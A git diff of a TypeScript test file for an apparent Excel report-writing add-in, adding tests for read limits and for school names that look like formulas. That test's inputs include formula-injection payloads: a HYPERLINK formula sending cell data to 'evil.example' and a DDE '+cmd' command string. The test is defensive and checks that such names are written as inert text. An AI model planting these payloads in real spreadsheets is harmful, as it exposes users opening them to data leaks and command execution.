@@ -5,13 +5,16 @@
 import fc from "fast-check";
 import { doubleHost } from "../../src/excel/double/host";
 import { ExcelDouble, REQUEST_LIMIT_BYTES } from "../../src/excel/double/excel";
+import { OfficeError } from "../../src/excel/double/context";
+import { Range } from "../../src/excel/double/sheet";
 import { REPORT_SHEETS_SETTING } from "../../src/excel/officeHost";
 import { BALANCE_LAYOUT } from "../../src/report/build";
 import type { Report } from "../../src/report/model";
 import { INDICATOR_IDS, LEVELS } from "../../src/standard/indicators";
 import { sampleCountyRecords } from "../../src/sample/sampleCounty";
+import { evaluateTable } from "../../src/pipeline";
 import type { Evaluation } from "../../src/engine";
-import { countyWorkbook, randomCounty, reportOf } from "./county";
+import { countyWorkbook, gridOf, randomCounty, reportOf } from "./county";
 
 async function checkAndReport(excel: ExcelDouble) {
   const host = doubleHost(excel);
@@ -192,6 +195,50 @@ describe("what the writer leaves", () => {
     expect(JSON.stringify(excel.model.requireSheet("学校"))).toBe(input);
   });
 
+  test("school names that look like formulas, numbers or sheet references are written as the same text", async () => {
+    // names as a county's file may hold them as text: typed in, they would become formulas, a number, a date
+    const names = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"第一小学")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)",
+      "-2+3",
+      "'第二小学",
+      "007",
+      "1/2",
+      "学校数据!A1",
+    ];
+    const renamed = (name: string) => names[Number(/\d+$/.exec(name)?.[0]) - 1] ?? name;
+    const records = randomCounty(names.length + 4, 9).map((r) => ({
+      ...r,
+      name: renamed(r.name),
+      parent: r.parent === undefined ? undefined : renamed(r.parent),
+    }));
+    const { report } = reportOf(gridOf(records));
+    const excel = new ExcelDouble();
+    excel.addSheetWithValues("学校", [["测试县"]]);
+    const host = doubleHost(excel);
+    await host.writeReport(report, { replaceExisting: true });
+    const wrong: string[] = [];
+    let texts = 0;
+    for (const sheet of report.sheets) {
+      const model = excel.model.requireSheet(sheet.name);
+      sheet.rows.forEach((cells, r) =>
+        cells.forEach((cell, c) => {
+          if (!cell || cell.formula || typeof cell.value !== "string" || cell.value === "") return;
+          texts++;
+          const written = excel.model.cell(model, r, c);
+          if (written?.formula !== undefined || written?.value !== cell.value)
+            wrong.push(`${sheet.name}!R${r + 1}C${c + 1}: ${JSON.stringify(written)} ≠ ${cell.value}`);
+        }),
+      );
+    }
+    expect(wrong).toEqual([]);
+    // every name is in the report, as text
+    const schoolData = excel.valuesOf("学校数据").flat();
+    for (const name of names) expect(schoolData).toContain(name);
+    expect(texts).toBeGreaterThan(100);
+  });
+
   test("a sheet the add-in did not make is never modified, even with a report sheet's name", async () => {
     const excel = countyWorkbook(randomCounty(20, 4));
     excel.addSheetWithValues("达标情况", [["我的笔记"]]);
@@ -360,6 +407,53 @@ describe("chunking under Office's 5 MB request limit", () => {
 });
 
 describe("reading under Office's 5 MB response limit", () => {
+  test("an Excel without Range.getUsedRangeOrNullObject (ExcelApi 1.4) reads a large range whole, as before", async () => {
+    const records = randomCounty(10, 12);
+    const excel = countyWorkbook(records);
+    excel.model.writeInput(excel.model.requireSheet("学校"), 299, 16383, "备注");
+    excel.model.changed();
+    const supported = Range.prototype.getUsedRangeOrNullObject;
+    // as Excel 2016 answers a request with an API it lacks: the request fails
+    Range.prototype.getUsedRangeOrNullObject = function (this: Range) {
+      return new Range(this.ctx, () => {
+        throw new OfficeError("ApiNotFound", "Range.getUsedRangeOrNullObject");
+      });
+    };
+    try {
+      const host = doubleHost(excel);
+      await host.activateSheet("学校");
+      const grid = await host.readTable("usedRange");
+      expect(grid.values[299][16383]).toBe("备注");
+      expect(evaluateTable(grid).read.records).toEqual(evaluateTable(gridOf(records)).read.records);
+    } finally {
+      Range.prototype.getUsedRangeOrNullObject = supported;
+    }
+  });
+
+  test.each([
+    [299, 16383, "XFD300"],
+    [1048575, 16383, "XFD1048576"],
+  ])("a stray value at %s, %s (%s) costs its own cell, not the rectangle to it", async (row, col) => {
+    const records = randomCounty(30, 11);
+    const excel = countyWorkbook(records);
+    const sheet = excel.model.requireSheet("学校");
+    sheet.hiddenRows.add(5);
+    excel.model.writeInput(sheet, row, col, "备注");
+    excel.model.changed();
+    const host = doubleHost(excel);
+    await host.activateSheet("学校");
+    const before = excel.requests.length;
+    const grid = await host.readTable("usedRange");
+    const read = excel.requests.slice(before).reduce((n, r) => n + (r.responseBytes ?? 0), 0);
+    // the table's 32 rows of 27 cells and the stray one: some kilobytes, never the megabytes of the rectangle
+    expect(read).toBeLessThan(200_000);
+    expect(grid.values[row][col]).toBe("备注");
+    expect(grid.hiddenRows).toEqual([5]);
+    // the table reads as it does without the stray value
+    const alone = evaluateTable(gridOf(records));
+    expect(evaluateTable(grid).read.records).toEqual(alone.read.records);
+  });
+
   test("a 100,000-row table is read in blocks, each response under 5 MB", async () => {
     const excel = new ExcelDouble();
     const rows = Array.from({ length: 100000 }, (_, i) => [`学校${i}`, "小学", i, i * 1.5, i % 7]);
